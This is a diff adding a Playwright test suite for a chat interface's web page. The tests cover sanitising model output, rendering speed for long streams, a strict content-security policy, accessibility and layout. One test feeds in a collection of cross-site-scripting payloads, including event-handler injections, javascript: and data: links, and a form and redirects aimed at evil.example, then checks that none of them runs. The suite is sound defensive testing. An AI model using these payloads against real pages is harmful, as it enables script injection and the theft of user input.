@@ -1,0 +1,185 @@
+"""The page itself: safe from what models write, quick with long answers, and fit for everybody."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from playwright.async_api import Browser, expect
+
+from tests.studio.browser import Studio
+from tests.support.build import delta
+from tests.support.scripted import Scripted, Step
+from tests.support.serving import antiphon
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+EVIL = "javascript:window.harm=1"
+HOSTILE = f"""\
+<script>window.harm = 1</script>
+<img src="x" onerror="window.harm = 1">
+<svg onload="window.harm = 1"><animate onbegin="window.harm=1" attributeName="x" dur="1s"></svg>
+<iframe srcdoc="<script>parent.harm = 1</script>"></iframe>
+<style>body {{ display: none }}</style>
+<form action="https://evil.example"><input name="key"><button>Send</button></form>
+<base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example">
+<a href="{EVIL}" id="turns">a link</a>
+
+[script]({EVIL}) [data](data:text/html,<script>window.harm=1</script>) [vb](vbscript:x) [good](https://example.com/)
+
+![pixel](https://evil.example/pixel.png) ![svg](data:image/svg+xml,<svg onload="window.harm=1"/>)
+
+<details open ontoggle="window.harm=1">x</details>
+<math><mtext><table><mglyph><style><img src=x onerror=window.harm=1></style></mglyph></table></mtext></math>
+
+```" onmouseover="window.harm=1
+x
+```
+
+| <img src=x onerror=window.harm=1> | `<b>` |
+|---|---|
+| \u202egnp.exe\u202c | {{{{constructor.constructor('window.harm=1')()}}}} |
+"""
+
+
+async def test_what_a_model_writes_does_nothing(browser: Browser) -> None:
+    """Also in thoughts, in the names and arguments of calls, and when it is looked at again."""
+    pieces: list[Step] = [delta(content=HOSTILE[start : start + 7]) for start in range(0, len(HOSTILE), 7)]
+    name = 'f"><img src=x onerror=window.harm=1>'
+    calls = [{"index": 0, "id": "c", "function": {"name": name, "arguments": f'{{"a": "{EVIL}<script>"}}'}}]
+    script: list[Step] = [delta(reasoning_content=HOSTILE), *pieces, delta(tool_calls=calls)]
+    async with antiphon(Scripted(script)) as url, Studio.open(browser, url) as studio:
+        page = studio.page
+        await studio.say(HOSTILE)
+        for tab in ("Events", "Request", "JSON", "Code"):
+            await studio.inspect(tab)
+        await studio.go("Responses")
+        await page.locator("#recent a").first.click()
+        await expect(page.locator("#response .prose")).to_contain_text("window.harm = 1")
+
+        for link in await page.locator(".prose a").all():
+            assert re.match("https://(example.com|evil.example)/", await link.get_attribute("href") or "")
+            assert "noopener" in (await link.get_attribute("rel") or "")
+        assert (
+            await page.locator(".prose :is(script, style, iframe, form, input, base, meta, svg, img, math)").count()
+            == 0
+        )
+        assert await page.evaluate("document.querySelectorAll('#turns').length") == 1
+        assert await page.locator(".prose").first.inner_text() is not None
+        assert "\u202e" not in await page.locator("body").inner_text()
+        assert await page.evaluate("window.harm") is None
+
+
+async def test_a_huge_table_stays_in_its_place(browser: Browser) -> None:
+    wide = f"|{'column|' * 60}\n|{'---|' * 60}\n" + f"|{'x' * 40}|\n" * 300
+    async with antiphon(Scripted([delta(content=wide)])) as url, Studio.open(browser, url, width=400) as studio:
+        await studio.say("A table")
+        await expect(studio.last.locator("tbody tr")).to_have_count(300)
+        assert await studio.overflow() <= 0
+
+
+async def test_the_policy_lets_nothing_in_but_the_pages_own(browser: Browser) -> None:
+    async with antiphon() as url, Studio.open(browser, url) as studio:
+        answer = await studio.page.request.get(f"{url}/studio")
+        policy = answer.headers["content-security-policy"]
+        for directive in ("default-src 'none'", "script-src 'self'", "style-src 'self'", "base-uri 'none'"):
+            assert directive in policy
+        assert "frame-ancestors 'none'" in policy and "unsafe" not in policy
+        text = await answer.text()
+        assert not re.search(r"<script(?![^>]*src=)|\son\w+=|style=|https?://", text)
+
+
+async def test_ten_thousand_deltas_stay_quick_and_small(browser: Browser) -> None:
+    """Measured by what the page does, not by the clock: nodes, rows, and what one frame draws."""
+    count = 10_000
+    texts = [f"word{number} " + ("\n\n" if number % 50 == 49 else "") for number in range(count)]
+    words: list[Step] = [[delta(content=text) for text in texts[at : at + 20]] for at in range(0, count, 20)]
+    async with antiphon(Scripted(words)) as url, Studio.open(browser, url) as studio:
+        page = studio.page
+        await studio.say("Go on")
+        await studio.inspect("Events")
+        await expect(page.locator(".event-count")).to_have_text("\u00d7 10,000")
+        await page.get_by_label("Fold deltas").uncheck()
+        await expect(page.locator(".event-name").nth(20)).to_have_text("output_text.delta")
+        assert await page.locator(".event").count() < 100
+        assert await page.locator(".prose p").count() == 200
+        assert await page.evaluate("document.querySelectorAll('*').length") < 2000
+        text = await studio.last.locator(".prose").inner_text()
+        assert len(text.split()) == count and text.split()[-1] == "word9999"
+
+
+@pytest.mark.parametrize("text", ["word " * 20_000, "```python\n" + "x = 1\n" * 10_000 + "```", "- item\n" * 5_000])
+async def test_a_long_block_is_not_rendered_anew_with_each_delta(browser: Browser, text: str) -> None:
+    """One paragraph, one block of code, one list: what each delta costs does not grow with what came before."""
+    async with antiphon() as url, Studio.open(browser, url) as studio:
+        drawn = await studio.page.evaluate(
+            """async (text) => {
+                const { GrowingMarkdown } = await import("/studio/js/lib/markdown.js");
+                const growing = new GrowingMarkdown();
+                let changed = 0;
+                const observer = new MutationObserver((records) => {
+                    for (const record of records) {
+                        for (const node of record.addedNodes) changed += node.textContent.length;
+                        if (record.type === "characterData") changed += 200;
+                    }
+                });
+                observer.observe(growing.node, { childList: true, subtree: true, characterData: true });
+                for (let at = 0; at < text.length; at += 100) {
+                    growing.append(text.slice(at, at + 100));
+                    await null;
+                }
+                const first = growing.node.textContent.length;
+                growing.finish(text);
+                return { changed, first, last: growing.node.textContent.trim().length };
+            }""",
+            text,
+        )
+        assert drawn["changed"] < 1_000_000 + 10 * len(text)
+        assert drawn["first"] >= 0.6 * len(text) and drawn["last"] >= 0.6 * len(text)
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+@pytest.mark.parametrize("width", [380, 1400])
+async def test_axe_finds_nothing_serious(browser: Browser, width: int, theme: str) -> None:
+    async with antiphon() as url, Studio.open(browser, url, width=width, theme=theme) as studio:
+        page = studio.page
+        await expect(page.get_by_role("button", name="Stream some Markdown")).to_be_visible()
+        assert await studio.axe() == []
+        await page.get_by_text("Options").click()
+        await page.get_by_label("Reasoning effort").select_option("low")
+        assert await studio.axe() == []
+        await studio.suggest("Stream some Markdown") if width > 1000 else await studio.say("Show me some Markdown.")
+        assert await studio.axe() == []
+        for tab in ("Events", "Request", "JSON", "Code"):
+            if await page.get_by_role("tab", name=tab).is_visible():
+                await page.get_by_role("tab", name=tab).click()
+            else:
+                await studio.inspect(tab)
+            assert await studio.axe() == []
+        await page.get_by_role("button", name="Close", exact=True).first.click()
+        await page.get_by_role("button", name="Key", exact=True).click()
+        assert await studio.axe() == []
+        await page.keyboard.press("Escape")
+        await studio.go("Responses")
+        await page.locator("#recent a").first.click()
+        await expect(page.locator("#response .prose")).to_be_visible()
+        assert await studio.axe() == []
+        await studio.go("About")
+        await expect(page.get_by_role("heading", name="Clients")).to_be_visible()
+        assert await studio.axe() == []
+
+
+@pytest.mark.parametrize("width", [360, 380, 800, 1000, 1400, 2200])
+async def test_nothing_is_wider_than_the_window(browser: Browser, width: int) -> None:
+    async with antiphon() as url, Studio.open(browser, url, width=width) as studio:
+        await studio.say("Show me some Markdown.")
+        await studio.say("x" * 500)
+        assert await studio.overflow() <= 0
+        await studio.inspect("Request")
+        await expect(studio.page.get_by_role("region", name="Chat Completions request")).to_be_visible()
+        assert await studio.overflow() <= 0
+        for view, shown in (("Responses", "#recent a"), ("About", "#about-body h2")):
+            await studio.go(view)
+            await expect(studio.page.locator(shown).first).to_be_visible()
+            assert await studio.overflow() <= 0
